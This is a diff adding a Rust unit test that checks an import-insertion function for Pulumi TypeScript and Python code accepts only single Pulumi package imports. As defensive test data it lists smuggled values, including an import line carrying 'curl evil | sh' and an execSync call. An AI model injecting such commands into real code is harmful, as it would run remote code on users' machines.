@@ -326,6 +326,49 @@ fn ts_replace_in_resource_and_add_import() {
 }
 
 #[test]
+fn add_import_takes_one_import_of_a_pulumi_package_and_nothing_else() {
+    let ts = doc(
+        Language::TypeScript,
+        &format!("{TS_HEAD}new aws.s3.Bucket(\"b\");\n"),
+    );
+    for smuggled in [
+        "import * as cp from \"child_process\";",
+        "import { execSync } from \"child_process\"; execSync(\"id\");",
+        "import * as util from \"util\";",
+    ] {
+        assert!(ts.add_import(smuggled).is_err(), "{smuggled}");
+    }
+    assert!(
+        ts.add_import("import { s3 } from \"@pulumi/aws\";")
+            .unwrap()
+            .is_some()
+    );
+
+    let py = doc(
+        Language::Python,
+        "import pulumi_aws as aws\n\naws.s3.Bucket(\"b\")\n",
+    );
+    for smuggled in [
+        "import os; os.system(\"curl evil | sh\")",
+        "import os",
+        "from subprocess import run",
+        "import pulumi_aws as aws, os",
+    ] {
+        assert!(py.add_import(smuggled).is_err(), "{smuggled}");
+    }
+    assert!(
+        py.add_import("import pulumi_random as random")
+            .unwrap()
+            .is_some()
+    );
+    assert!(
+        py.add_import("from pulumi_aws import s3")
+            .unwrap()
+            .is_some()
+    );
+}
+
+#[test]
 fn footprint_covers_call_and_exclusive_definitions() {
     let src = format!(
         "{TS_HEAD}const base = {{ acl: \"private\" }};\nconst args = {{ ...base, forceDestroy: true }};\nconst shared = {{ acl: \"private\" }};\nnew aws.s3.Bucket(\"a\", args);\nnew aws.s3.Bucket(\"b\", {{ ...shared }});\nnew aws.s3.Bucket(\"c\", shared);\n"
